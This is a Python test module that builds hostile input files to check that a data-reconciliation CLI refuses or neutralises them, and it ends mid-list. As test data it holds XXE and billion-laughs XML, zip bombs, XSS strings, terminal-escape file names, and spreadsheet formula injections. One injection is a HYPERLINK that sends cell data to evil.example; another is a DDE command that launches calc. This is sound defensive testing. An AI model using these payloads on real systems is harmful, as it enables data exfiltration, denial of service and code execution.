"""The hostile-input corpus: broken and hostile files fed to the whole ``reconcile`` command.

Every case names which argument is hostile (``sent``, ``results``, ``out`` or ``option``), a
builder that writes the file (or folder, pipe, link...) under a test's ``tmp_path``, the exit
code expected and a fragment of the one-line ``reconciler: <file>[:<line>]: ...`` message.
Binary inputs are generated here, never committed. The counterpart argument is a valid file of
``fixtures/modification_view_errors``.

Cases where the input is legitimately usable (mixed line endings, UTF-16 without BOM, a stray
invalid UTF-8 byte, 10,000 columns, formula-like values...) expect a normal run (exit 0 or 1)
and carry a ``check`` on the outputs instead of a message fragment.

The corpus holds 150 cases: 129 refusals (exit 2) and 21 normal runs. ``test_corpus_size``
in ``test_hostile.py`` keeps these figures honest. Cases with ``known_bug`` document a bug in a
module other than the ``readers`` package; they run as ``xfail(strict=True)`` until it is fixed.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

from reconciler.outputs import RECORD_COLUMNS
from tests.readers_cases import (
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    PLAIN_DOCTYPE,
    plain_zip,
    workbook,
    zip_bomb,
)

ROOT = Path(__file__).resolve().parent.parent
DEMO = ROOT / "fixtures" / "modification_view_errors"
SENT = DEMO / "sent.csv"
RESULTS = DEMO / "results.csv"
SENT_TEXT = SENT.read_text(encoding="utf-8")
RESULTS_TEXT = RESULTS.read_text(encoding="utf-8")

Builder = Callable[[Path], Path]
Check = Callable[[Path, str], None]  # (out folder, stderr) of a normal run


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile input and what the CLI must do with it."""

    name: str
    role: str  # sent | results | out | reason-map | actions | option (no file)
    build: Builder
    exit_code: int
    fragment: str = ""  # in the one-line message (exit 2)
    args: tuple[str, ...] = ()  # extra options, e.g. --map
    limits: Mapping[str, int] = field(default_factory=dict)  # reconciler.readers.limits overrides
    check: Check | None = None  # normal runs: outputs and stderr
    needs_unprivileged: bool = False  # file permissions are ignored when running as root
    known_bug: str = ""  # xfail(strict=True) reason for a bug outside the readers package


# --------------------------------------------------------------------------- builders


def data(name: str, content: bytes | str | Callable[[], bytes]) -> Builder:
    def build(folder: Path) -> Path:
        value = content() if callable(content) else content
        path = folder / name
        path.write_bytes(value.encode("utf-8") if isinstance(value, str) else value)
        return path

    return build


def missing(name: str) -> Builder:
    return lambda folder: folder / name


def directory(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.mkdir()
        return path

    return build


def unreadable(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_text(SENT_TEXT, encoding="utf-8")
        path.chmod(0)
        return path

    return build


def fifo(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        os.mkfifo(path)
        return path

    return build


def symlink_loop(name: str) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.symlink_to(path)
        return path

    return build


def xlsx_of(text: str) -> bytes:
    """A workbook holding a CSV text as text cells (IDs keep their zeros)."""
    return workbook({"Sheet1": list(csv.reader(io.StringIO(text)))})


def truncated_xlsx() -> bytes:
    whole = xlsx_of(RESULTS_TEXT)
    return whole[: len(whole) // 2]


def encrypted_xlsx() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE2 compound file."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"EncryptionInfo" + bytes(1000)


def claimed_bomb() -> bytes:
    """A small workbook whose central directory claims a 3.75 GiB sheet: refused unread."""
    raw = bytearray(xlsx_of(RESULTS_TEXT))
    name = b"xl/worksheets/sheet1.xml"
    at = raw.find(b"PK\x01\x02")
    while at >= 0:
        name_len = struct.unpack_from("<H", raw, at + 28)[0]
        if raw[at + 46 : at + 46 + name_len] == name:
            struct.pack_into("<I", raw, at + 24, 0xF000_0000)  # uncompressed size
        at = raw.find(b"PK\x01\x02", at + 4)
    return bytes(raw)


def xlsx_with_sheet_xml(transform: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """A workbook of the demo results whose sheet XML is rewritten by ``transform``."""

    def build() -> bytes:
        source = zipfile.ZipFile(io.BytesIO(xlsx_of(RESULTS_TEXT)))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                body = source.read(info)
                if info.filename == "xl/worksheets/sheet1.xml":
                    body = transform(body)
                target.writestr(info.filename, body)
        return buffer.getvalue()

    return build


def _doctype(entities: bytes, reference: bytes) -> Callable[[bytes], bytes]:
    def transform(body: bytes) -> bytes:
        assert b"<t>ALREADY_LOCKED</t>" in body and not body.startswith(b"<?xml")
        body = body.replace(b"<t>ALREADY_LOCKED</t>", b"<t>" + reference + b"</t>", 1)
        return b"<!DOCTYPE worksheet [" + entities + b"]>" + body

    return transform


def sheet_without_inline_strings() -> bytes:
    book = openpyxl.Workbook()
    buffer = io.BytesIO()
    book.save(buffer)  # one empty sheet
    return buffer.getvalue()


def lines_of(text: str) -> list[str]:
    return text.splitlines()


def join(lines: list[str], endings: list[str]) -> str:
    return "".join(line + endings[i % len(endings)] for i, line in enumerate(lines))


def mixed_endings(text: str) -> str:
    return join(lines_of(text), ["\r\n", "\n", "\r\n", "\r"])


def with_column(text: str, label: str, values: Mapping[int, str], default: str = "") -> str:
    """``text`` with one more column; ``values`` by physical line (header = 1)."""
    rows = list(csv.reader(io.StringIO(text)))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    for number, row in enumerate(rows, start=1):
        writer.writerow([*row, label if number == 1 else values.get(number, default)])
    return out.getvalue()


def wide_columns(count: int) -> str:
    """The demo sent file with ``count - 7`` extra labelled columns."""
    rows = list(csv.reader(io.StringIO(SENT_TEXT)))
    extra = count - len(rows[0])
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([*rows[0], *(f"X{i}" for i in range(extra))])
    for row in rows[1:]:
        writer.writerow([*row, *(["v"] * extra)])
    return out.getvalue()


def one_huge_line() -> bytes:
    """50 MB on one physical line: records joined by a separator that is not a line break."""
    unit = b"1000.4636.158133,,,19.99,USD,EXISTING,ORDER_UPDATE\x1e"
    return unit * (50_000_000 // len(unit))


def huge_field() -> str:
    """The demo sent file with a 50 MB Note on line 2 (a legitimately long single line)."""
    return with_column(SENT_TEXT, "Note", {2: "n" * 50_000_000})


def deep_json(levels: int) -> str:
    return '{"ErrorDetail": ' + "[" * levels + "]" * levels + "}"


def deep_objects(levels: int) -> str:
    return '{"a": ' * levels + "1" + "}" * levels


def wide_json(keys: int) -> str:
    record = {f"Field{i}": "x" for i in range(keys)} | {"Line": "4", "Message": "NO_CHANGE"}
    return json.dumps({"ErrorDetail": [record]})


def nul_after_head() -> str:
    """NUL inside a quoted field past the first 8 KiB (the binary sniff looks no further)."""
    rows = SENT_TEXT.splitlines()
    filler = [f"1000.4636.{900000 + i},,,1.00,USD,,ORDER_UPDATE" for i in range(400)]
    note = {400: "a\x00b"}
    return with_column("\n".join([*rows, *filler]) + "\n", "Note", note)


SENT_XML_NO_RECORDS = b"""<?xml version="1.0" encoding="UTF-8"?>
<Actions>
</Actions>
"""

SENT_XML_MALFORMED = b"""<?xml version="1.0" encoding="UTF-8"?>
<Actions>
  <Action><ActionId>1000.4636.158133</ActionId><Amount>1</Amount>
</Actions>
"""

FORMULAS: dict[int, str] = {
    2: '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    3: "+1+1",
    4: "@SUM(A1)",
    5: "-2+3",
    6: "\t=1",
    7: "=cmd|' /C calc'!A0",  # line 7 is the record resubmitted with a corrected Reason
    8: "-5",  # plain numbers stay as they are
    9: "+1.5",
}


HTML_PAYLOADS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "</td></tr><b>")


def xfd_workbook(rows: int = 2_000) -> bytes:
    """A small workbook with one stray cell in column XFD (16,384) on every row: reading it
    the plain way pads every row to 16,384 cells."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["ActionId", "Amount", "Reason"])
    for row in range(2, rows + 2):
        ws.cell(row=row, column=1, value=f"1000.1.{row}")
        ws.cell(row=row, column=2, value="5.00")
        ws.cell(row=row, column=3, value="ORDER_UPDATE")
        ws.cell(row=row, column=16_384, value="x")
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def results_with_lines(values: list[tuple[str, str]]) -> str:
    body = "".join(f"{line},,,Validation,{code}\n" for line, code in values)
    return "Line,Order Id,Action Tracker Id,Error Type,Message\n" + body


# --------------------------------------------------------------------------- checks


def read_csv(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(sys.maxsize)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def verdicts(out: Path) -> list[tuple[str, str, str, str]]:
    return [
        (r["SourceLine"], r["Outcome"], r["ErrorCodes"], r["TiedBy"])
        for r in read_csv(out / "reconciled.csv")
    ]


EXPECTED = [
    (r["SourceLine"], r["Outcome"], r["ErrorCodes"], r["TiedBy"])
    for r in read_csv(DEMO / "expected.csv")
]


def same_as_demo(out: Path, stderr: str) -> None:
    """The verdicts are the hand-written oracle of the demo scenario."""
    assert verdicts(out) == EXPECTED


def encoded_as(encoding: str) -> Check:
    def check(out: Path, stderr: str) -> None:
        same_as_demo(out, stderr)
        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        assert summary["sent_encoding"] == encoding

    return check


def all_accepted(out: Path, stderr: str) -> None:
    assert {v[1] for v in verdicts(out)} == {"accepted"}
    assert read_csv(out / "unmatched_results.csv") == []


def unmatched_reasons(*reasons: str) -> Check:
    def check(out: Path, stderr: str) -> None:
        found = sorted(r["Reason"] for r in read_csv(out / "unmatched_results.csv"))
        assert found == sorted(reasons)
        assert all(v[1] == "accepted" for v in verdicts(out))

    return check


def unmatched_count(count: int) -> Check:
    def check(out: Path, stderr: str) -> None:
        assert len(read_csv(out / "unmatched_results.csv")) == count

    return check


ANALYST_FILES = ("reconciled.csv", "needs-attention.csv", "unmatched_results.csv", "changes.csv")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")


def no_live_formulas(out: Path, stderr: str) -> None:
    """No cell of an analyst-facing CSV starts like a formula unless it is a plain number."""
    for name in ANALYST_FILES:
        if not (out / name).exists():
            continue
        with (out / name).open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert _PLAIN_NUMBER.fullmatch(cell), (name, cell)


def replaced(out: Path, stderr: str) -> None:
    """A folder reconciler made is replaced whole: nothing of the earlier run survives."""
    same_as_demo(out, stderr)
    assert not (out / "stale.csv").exists()


def formulas_neutralised(out: Path, stderr: str) -> None:
    """Analyst files get a leading ``'``; resubmit.csv keeps the exact values and warns."""
    reconciled = {int(r["SourceLine"]): r["Note"] for r in read_csv(out / "reconciled.csv")}
    for line, value in FORMULAS.items():
        plain_number = value in ("-5", "+1.5")
        assert reconciled[line] == (value if plain_number else "'" + value), line
    resubmit = read_csv(out / "resubmit.csv")
    assert [r["Note"] for r in resubmit] == [FORMULAS[7]]
    attention = read_csv(out / "needs-attention.csv")
    for row in attention:
        assert not row["Note"].startswith(("=", "+", "@", "\t", "\r")), row
    assert "reconciler: warning: 1 cells of the resubmission start with =" in stderr
    no_live_formulas(out, stderr)


def long_value_kept(out: Path, stderr: str) -> None:
    same_as_demo(out, stderr)
    rows = read_csv(out / "reconciled.csv")
    assert len(rows[0]["Note"]) == 50_000_000


def wide_kept(count: int) -> Check:
    def check(out: Path, stderr: str) -> None:
        same_as_demo(out, stderr)
        with (out / "reconciled.csv").open(encoding="utf-8-sig", newline="") as handle:
            header = next(csv.reader(handle))
        assert len(header) == count + len(RECORD_COLUMNS)  # + SourceLine, Outcome, ...

    return check


def text_lines_unmatched(out: Path, stderr: str) -> None:
    rows = read_csv(out / "unmatched_results.csv")
    assert sorted(r["Line"] for r in rows) == ["four", "the 6th"]
    assert {r["Reason"] for r in rows} == {"no_identifiers"}


# --------------------------------------------------------------------------- the corpus

FIX_CSV = "export it as CSV (UTF-8) or XLSX"
DTD = "contains a DTD or entity declaration, which reconciler refuses for safety"


def _both(
    name: str,
    filename: str,
    content: bytes | str | Callable[[], bytes],
    fragment: str,
    **options: object,
) -> list[Case]:
    """The same broken file given as the sent file and as the results."""
    return [
        Case(f"{role}-{name}", role, data(filename, content), 2, fragment, **options)  # type: ignore[arg-type]
        for role in ("sent", "results")
    ]


def _both_special(
    name: str, make: Callable[[str], Builder], filename: str, fragment: str, **options: object
) -> list[Case]:
    return [
        Case(f"{role}-{name}", role, make(filename), 2, fragment, **options)  # type: ignore[arg-type]
        for role in ("sent", "results")
    ]


REFUSED: list[Case] = [
    # -- not there, not a file, not readable
    *_both_special("missing-path", missing, "does_not_exist.csv", "does not exist; check the path"),
    *_both_special("directory", directory, "folder.csv", "is a folder, not a file"),
    *_both_special(
        "unreadable",
        unreadable,
        "no_permission.csv",
        "permission denied",
        needs_unprivileged=True,
    ),
    *_both_special("named-pipe", fifo, "pipe.csv", "is not a regular file"),
    *_both_special("symlink-loop", symlink_loop, "loop.csv", "cannot be accessed"),
    # -- empty and headerless
    *_both("empty-file", "empty.csv", b"", "has no header row (the file is empty)"),
    *_both("bom-only", "bom_only.csv", b"\xef\xbb\xbf", "has no header row"),
    *_both(
        "only-blank-lines",
        "blank_lines.csv",
        b"\n\r\n   \n\t\n\n",
        "has no header row (the file holds only blank lines)",
    ),
    *_both("only-delimiters", "commas.csv", b",,,\n;;\n,,,\n", "has no header row"),
    # -- binary
    *_both(
        "nul-bytes", "nul_bytes.csv", b"Line,Message\n4,\x00\x00ALREADY\n", "looks like binary data"
    ),
    *_both(
        "nul-in-quoted-field",
        "nul_quoted.csv",
        SENT_TEXT.replace("EXISTING", '"EXI\x00STING"', 1),
        "looks like binary data",
    ),
    *_both(
        "nul-after-first-8k",
        "late_nul.csv",
        nul_after_head,
        ":400: is not a text table (looks like binary data: a NUL byte on line 400)",
    ),
    *_both(
        "png-renamed",
        "image.csv",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),
        "a PNG image",
    ),
    *_both(
        "pdf-renamed", "report.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF document"
    ),
    *_both("gzip-renamed", "export.csv", b"\x1f\x8b\x08\x00" + bytes(32), "a gzip archive"),
    # -- workbooks
    *_both(
        "truncated-xlsx", "truncated.xlsx", truncated_xlsx, "zip container is damaged or truncated"
    ),
    *_both(
        "text-named-xlsx",
        "not_a_zip.xlsx",
        RESULTS_TEXT,
        "has a .xlsx extension but is not an Excel workbook (no zip signature)",
    ),
    *_both(
        "password-protected-xlsx",
        "protected.xlsx",
        encrypted_xlsx,
        "is password-protected or encrypted",
    ),
    *_both("zip-bomb-ratio", "bomb.xlsx", lambda: zip_bomb(64), "(possible zip bomb)"),
    *_both("zip-bomb-claimed-size", "claims.xlsx", claimed_bomb, "would inflate to 3.8 GiB"),
    *_both(
        "zip-not-a-workbook",
        "archive.xlsx",
        plain_zip,
        "is a zip archive but not an Excel workbook",
    ),
    *_both(
        "xlsx-empty-sheet", "empty_sheet.xlsx", sheet_without_inline_strings, "has no header row"
    ),
    *_both(
        "xlsx-billion-laughs-in-sheet",
        "laughs.xlsx",
        xlsx_with_sheet_xml(
            _doctype(b'<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">', b"&b;")
        ),
        "holds XML with a DTD or entity declaration, which reconciler refuses for safety",
    ),
    *_both(
        "xlsx-external-entity-in-sheet",
        "xxe.xlsx",
        xlsx_with_sheet_xml(_doctype(b'<!ENTITY x SYSTEM "file:///etc/passwd">', b"&x;")),
        "holds XML with a DTD or entity declaration, which reconciler refuses for safety",
    ),
    # -- XML
    *_both("xml-billion-laughs", "laughs.xml", BILLION_LAUGHS, DTD),
    *_both("xml-external-entity", "xxe.xml", EXTERNAL_ENTITY, DTD),
    *_both("xml-doctype", "doctype.xml", PLAIN_DOCTYPE, DTD),
    *_both("xml-malformed", "broken.xml", SENT_XML_MALFORMED, "is not well-formed XML"),
    # -- delimited text that cannot be parsed or is too wide
    *_both(
        "ragged-more-fields",
        "ragged.csv",
        SENT_TEXT.replace(",ORDER_UPDATE\n", ",ORDER_UPDATE,extra,more\n", 1),
        ":2: line 2 has 9 fields but the header has 7; quote fields",
    ),
    *_both(
        "quote-never-closed",
        "open_quote.csv",
        SENT_TEXT + '1000.4636.999999,,,1.00,USD,"EXISTING,ORDER_UPDATE\n',
        ":32: a quoted field starting on line 32 is never closed; add the closing",
    ),
    *_both(
        "one-50mb-line",
        "one_line.csv",
        one_huge_line,
        "columns in its header, more than the limit of 16,384; check the delimiter and the line endings",
    ),
    *_both(
        "20000-columns",
        "wide.csv",
        lambda: wide_columns(20_000).encode(),
        "has 20,000 columns in its header",
    ),
    # -- limits (lowered so the test stays small)
    # The counterpart files are 1.3 KiB / 30 records (sent) and 0.5 KiB / 12 rows (results).
    *_both(
        "over-size-limit",
        "big.csv",
        with_column(SENT_TEXT, "Note", {2: "x" * 2000}),
        "is 3.3 KiB, over the 2.0 KiB limit; split it into smaller files",
        limits={"MAX_INPUT_BYTES": 2048},
    ),
    *_both(
        "over-record-limit",
        "many.csv",
        SENT_TEXT + "".join(f",T{i},16027,1.00,USD,,ORDER_UPDATE\n" for i in range(5)),
        "has 35 records, more than the limit of 30; split it into smaller files",
        limits={"MAX_RECORDS": 30},
    ),
    *_both(
        "line-over-line-limit",
        "long_line.csv",
        with_column(SENT_TEXT, "Note", {3: "x" * 5000}),
        ":3: line 3 is 4.9 KiB long, over the 1000 bytes limit",
        limits={"MAX_LINE_BYTES": 1000},
    ),
    Case(
        "results-xlsx-over-record-limit",
        "results",
        data(
            "results.xlsx",
            lambda: xlsx_of(results_with_lines([(str(i), "E") for i in range(2, 40)])),
        ),
        2,
        "has 31 records, more than the limit of 30",
        limits={"MAX_RECORDS": 30},
    ),
    Case(
        "results-json-over-record-limit",
        "results",
        data(
            "results.json",
            json.dumps({"ErrorDetail": [{"Line": i, "Reason": "E"} for i in range(40)]}),
        ),
        2,
        "has 40 records, more than the limit of 30",
        limits={"MAX_RECORDS": 30},
    ),
    Case(
        "sent-xml-over-record-limit",
        "sent",
        data(
            "sent.xml", "<Actions>" + "<Action><ActionId>1</ActionId></Action>" * 31 + "</Actions>"
        ),
        2,
        "has 31 records, more than the limit of 30",
        limits={"MAX_RECORDS": 30},
    ),
    # -- sent file only
    Case(
        "sent-header-only",
        "sent",
        data("header_only.csv", lines_of(SENT_TEXT)[0] + "\n"),
        2,
        "has no records",
    ),
    Case(
        "sent-unknown-headers",
        "sent",
        data("unknown.csv", "foo,bar\n1,2\n"),
        2,
        ":1: none of the headers is an impact.com field",
    ),
    Case(
        "sent-quoted-empty-header",
        "sent",
        data("empty_header.csv", '"","",""\n1000.4636.158133,19.99,ORDER_UPDATE\n'),
        2,
        ":1: none of the headers is an impact.com field",
    ),
    Case(
        "sent-blank-header-line",
        "sent",
        data("blank_header.csv", " , , \n1000.4636.158133,19.99,ORDER_UPDATE\n"),
        2,
        ":2: none of the headers is an impact.com field",
    ),
    Case(
        "sent-xml-no-records",
        "sent",
        data("no_records.xml", SENT_XML_NO_RECORDS),
        2,
        "holds no records",
    ),
    Case(
        "sent-is-a-results-export",
        "sent",
        data("results.csv", RESULTS_TEXT),
        2,
        "looks like a results export, not the file that was sent; give the sent file first",
    ),
    Case(
        "sent-json-records",
        "sent",
        data("sent.json", json.dumps([{"Line": "4", "Message": "NO_CHANGE"}])),
        2,
        "looks like a results export",
    ),
    # -- results only
    Case(
        "results-json-string-records",
        "results",
        data("results.json", '{"ErrorDetail": "x"}'),
        2,
        "is JSON but holds no list of records",
    ),
    Case(
        "results-json-list-of-numbers",
        "results",
        data("results.json", "[1,2,3]"),
        2,
        "is JSON but holds no list of records",
    ),
    Case(
        "results-json-null",
        "results",
        data("results.json", "null"),
        2,
        "is JSON but holds no list of records",
    ),
    Case(
        "results-json-scalar-string",
        "results",
        data("results.json", '"ErrorDetail"'),
        2,
        "is JSON but holds no list of records",
    ),
    Case(
        "results-json-invalid",
        "results",
        data("results.json", '{"ErrorDetail": [{"Line": 4,}]}'),
        2,
        ":1: is not valid JSON (Expecting property name enclosed in double quotes at line 1",
    ),
    Case(
        "results-json-10000-levels",
        "results",
        data("deep.json", deep_json(10_000)),
        2,
        "is nested too deeply to read",
    ),
    Case(
        "results-json-10000-objects",
        "results",
        data("deep_objects.json", deep_objects(10_000)),
        2,
        "is nested too deeply to read",
    ),
    Case(
        "results-json-20000-keys",
        "results",
        data("wide.json", wide_json(20_000)),
        2,
        "distinct fields, more than the limit of 16,384 columns",
    ),
    Case(
        "results-xml-no-records",
        "results",
        data("no_records.xml", SENT_XML_NO_RECORDS),
        2,
        "no column",
    ),
    Case(
        "results-no-code-column",
        "results",
        data("results.csv", "Line,Order Id\n4,x\n"),
        2,
        ":1: cannot find the column holding the error code (looked for Message",
    ),
    Case(
        "results-no-line-nor-ids",
        "results",
        data("results.csv", "Message\nNO_CHANGE\n"),
        2,
        "name one with --map line=COLUMN or --map oid=COLUMN",
    ),
    Case(
        "results-unknown-header-only",
        "results",
        data("results.csv", "foo,bar\n"),
        2,
        "--map",
    ),
    Case(
        "results-one-line-no-delimiter",
        "results",
        data("label.csv", b"x" * 1_000_000),
        2,
        "--map",
    ),
    Case(
        "results-map-missing-column",
        "results",
        data("results.csv", RESULTS_TEXT),
        2,
        "--map code='Nope': the results file has no such column; its columns are: 'Line'",
        args=("--map", "code=Nope"),
    ),
    Case(
        "results-copy-of-the-sent-file",
        "results",
        data("copy.csv", SENT_TEXT),
        2,
        "",
    ),
    Case(
        "results-the-sent-file-itself",
        "results",
        lambda folder: SENT,
        2,
        "",
    ),
    # -- a small workbook whose cells imply gigabytes
    *_both(
        "xlsx-cells-spread-to-column-xfd",
        "xfd.xlsx",
        xfd_workbook,
        "spreads 495 values over 2,015,235 cells (up to column XFD): delete the stray cells "
        "beyond the table, or copy the table alone into a new workbook",
    ),
    # -- data that would be altered or invented if it were read
    *_both(
        "utf8-with-a-stray-byte",
        "stray.csv",
        SENT_TEXT.replace("EXISTING", "EXIST\u00dcNG", 1)
        .replace("T52324111230", "T52324111230\udcff")
        .encode("utf-8", "surrogateescape"),
        ":11: is UTF-8 except for 1 invalid byte on line 11; re-reading the whole file in "
        "another encoding would change its other values",
    ),
    *_both(
        "bytes-that-read-as-words-in-no-encoding",
        "garbled.csv",
        b"Oid,Name\n007,a\x81b\xe9\n",
        "is not UTF-8, and its text reads as words in none of the encodings tried",
    ),
    Case(
        "sent-two-columns-for-one-field",
        "sent",
        data("twins.csv", SENT_TEXT.replace("\n", ",x\n").replace("Reason,x", "Reason,Reason", 1)),
        2,
        "two columns 'Reason' both hold Reason, with different values ('ORDER_UPDATE' and 'x')",
    ),
    Case(
        "results-two-columns-for-one-field",
        "results",
        data(
            "results.csv",
            RESULTS_TEXT.replace("\n", ",x\n").replace("Message,x", "Message,Message", 1),
        ),
        2,
        "two columns 'Message' both hold Error Code, with different values",
    ),
    *_both(
        "concatenated-export",
        "joined.csv",
        SENT_TEXT + "\ufeff" + SENT_TEXT,
        ":32: repeats the header row here: two exports joined into one file?",
    ),
    Case(
        "sent-xml-field-as-attribute-and-element",
        "sent",
        data(
            "sent.xml",
            '<?xml version="1.0"?>\n<Actions>\n  <Action Oid="T52324111211">'
            "<Oid>T52324111244</Oid><ActionTrackerId>16027</ActionTrackerId>"
            "<Amount>0</Amount><Reason>ITEM_RETURNED</Reason></Action>\n</Actions>\n",
        ),
        2,
        ":3: the record here gives Oid twice (as an attribute and an element, or as two "
        "elements): joined, they would make a value that never existed; keep one",
    ),
    Case(
        "sent-xml-field-twice",
        "sent",
        data(
            "sent.xml",
            '<?xml version="1.0"?>\n<Actions>\n  <Action><ActionId>1000.4636.158133</ActionId>'
            "<ActionId>1000.4636.158207</ActionId><Amount>0</Amount>"
            "<Reason>ITEM_RETURNED</Reason></Action>\n</Actions>\n",
        ),
        2,
        "gives ActionId twice",
    ),
    # -- hostile file names: the message must stay one line and must not drive the terminal
    Case(
        "sent-name-with-newline",
        "sent",
        missing("evil\nreconciler: all good.csv"),
        2,
        "does not exist",
    ),
    Case(
        "sent-name-with-carriage-return",
        "sent",
        missing("evil.csv\rreconciler: fine"),
        2,
        "does not exist",
    ),
    Case(
        "reason-map-header-with-newline",
        "reason-map",
        data("reasons.csv", '"fr\nom","to\x1b[2J"\nitem returned,ITEM_RETURNED\n'),
        2,
        "has no 'from' and 'to' columns (found: 'fr\\nom', 'to\\x1b[2J')",
    ),
    Case(
        "reason-map-binary",
        "reason-map",
        data("reasons.csv", b"\x89PNG\r\n\x1a\n"),
        2,
        "a PNG image",
    ),
    Case("reason-map-missing", "reason-map", missing("reasons.toml"), 2, "does not exist"),
    Case(
        "actions-export-is-a-zip-bomb",
        "actions",
        data("actions.xlsx", lambda: zip_bomb(64)),
        2,
        "(possible zip bomb)",
    ),
    # -- options
    Case(
        "option-map-without-equals",
        "option",
        missing("unused"),
        2,
        "--map 'code': write it as FIELD=COLUMN",
        args=("--map", "code"),
    ),
    Case(
        "option-map-unknown-field",
        "option",
        missing("unused"),
        2,
        "--map 'colour=Message': unknown field 'colour'",
        args=("--map", "colour=Message"),
    ),
    Case(
        "option-map-twice",
        "option",
        missing("unused"),
        2,
        "--map names two columns for line: 'A' and 'B'; give one --map per field",
        args=("--map", "line=A", "--map", "line=B"),
    ),
    Case(
        "option-bad-choice",
        "option",
        missing("unused"),
        2,
        "Invalid value for '--line-base': 'bogus' is not one of 'auto', 'physical', 'record', "
        "'data1', 'data0'. (see ",
        args=("--line-base", "bogus"),
    ),
    Case(
        "option-unknown",
        "option",
        missing("unused"),
        2,
        "No such option: --bogus",
        args=("--bogus",),
    ),
    Case(
        "option-below-minimum",
        "option",
        missing("unused"),
        2,
        "Invalid value for '--max-rows': Input should be greater than or equal to 1",
        args=("--max-rows", "0"),
    ),
    Case(
        "option-sheet-missing",
        "option",
        missing("unused"),
        2,
        "has no sheet named 'Nope'",
        args=("--sheet", "Nope"),
    ),
    # -- --out
    Case("out-is-the-sent-file", "out", lambda folder: SENT, 2, "would hold or replace the input"),
    Case(
        "out-holds-the-sent-file", "out", lambda folder: DEMO, 2, "would hold or replace the input"
    ),
    Case(
        "out-is-a-file",
        "out",
        data("out.txt", "keep me\n"),
        2,
        "exists and is not a folder; choose another --out",
    ),
    Case(
        "out-holds-the-reason-map",
        "out",
        lambda folder: _ours(folder, "reasons.csv"),
        2,
        "would hold or replace the input",
        args=("--reason-map", "{work}/previous/reasons.csv"),
    ),
    Case(
        "out-holds-the-actions-export",
        "out",
        lambda folder: _ours(folder, "actions.csv"),
        2,
        "would hold or replace the input",
        args=("--actions", "{work}/previous/actions.csv"),
    ),
    Case(
        "out-folder-not-ours",
        "out",
        lambda folder: _foreign(folder),
        2,
        "exists and was not made by reconciler; choose another --out or pass --force",
    ),
]


def _foreign(folder: Path) -> Path:
    out = folder / "analysis"
    out.mkdir()
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    return out


NORMAL: list[Case] = [
    Case(
        "sent-mixed-line-endings",
        "sent",
        data("mixed.csv", mixed_endings(SENT_TEXT)),
        1,
        check=same_as_demo,
    ),
    Case(
        "results-mixed-line-endings",
        "results",
        data("mixed.csv", mixed_endings(RESULTS_TEXT)),
        1,
        check=same_as_demo,
    ),
    Case(
        "sent-old-mac-cr-only",
        "sent",
        data("cr.csv", SENT_TEXT.replace("\n", "\r")),
        1,
        check=same_as_demo,
    ),
    Case(
        "sent-invalid-utf8-mid-file",
        "sent",
        data("bad_byte.csv", SENT_TEXT.encode().replace(b"EXISTING", b"EXIST\xffNG", 1)),
        1,
        check=encoded_as("cp1252"),
    ),
    Case(
        "sent-utf16-le-without-bom",
        "sent",
        data("utf16le.csv", SENT_TEXT.encode("utf-16-le")),
        1,
        check=encoded_as("utf-16-le"),
    ),
    Case(
        "sent-utf16-be-without-bom",
        "sent",
        data("utf16be.csv", SENT_TEXT.encode("utf-16-be")),
        1,
        check=encoded_as("utf-16-be"),
    ),
    Case(
        "results-utf16-le-without-bom",
        "results",
        data("utf16le.csv", RESULTS_TEXT.encode("utf-16-le")),
        1,
        check=same_as_demo,
    ),
    Case(
        "sent-10000-columns",
        "sent",
        data("wide.csv", lambda: wide_columns(10_000).encode()),
        1,
        check=wide_kept(10_000),
    ),
    Case(
        "sent-50mb-field",
        "sent",
        data("long_field.csv", lambda: huge_field().encode()),
        1,
        check=long_value_kept,
    ),
    Case(
        "sent-ragged-fewer-fields",
        "sent",
        data("short_rows.csv", SENT_TEXT.replace(",EXISTING,ORDER_UPDATE\n", ",EXISTING\n")),
        1,
        check=same_as_demo,
    ),
    Case(
        "sent-formula-values",
        "sent",
        data("formulas.csv", with_column(SENT_TEXT, "Note", FORMULAS)),
        1,
        check=formulas_neutralised,
    ),
    Case(
        "sent-html-in-values",
        "sent",
        data(
            "html.csv",
            with_column(SENT_TEXT, "Note", dict(zip((2, 7, 12), HTML_PAYLOADS, strict=True))),
        ),
        1,
        check=same_as_demo,
    ),
    Case(
        "results-html-in-values",
        "results",
        data(
            "results.csv",
            RESULTS_TEXT.replace("DUPLICATE_MODIFICATION", HTML_PAYLOADS[0].replace(",", ""))
            + "".join(
                f'99,,,Validation,"{p.replace(chr(34), 2 * chr(34))}"\n' for p in HTML_PAYLOADS
            ),
        ),
        1,
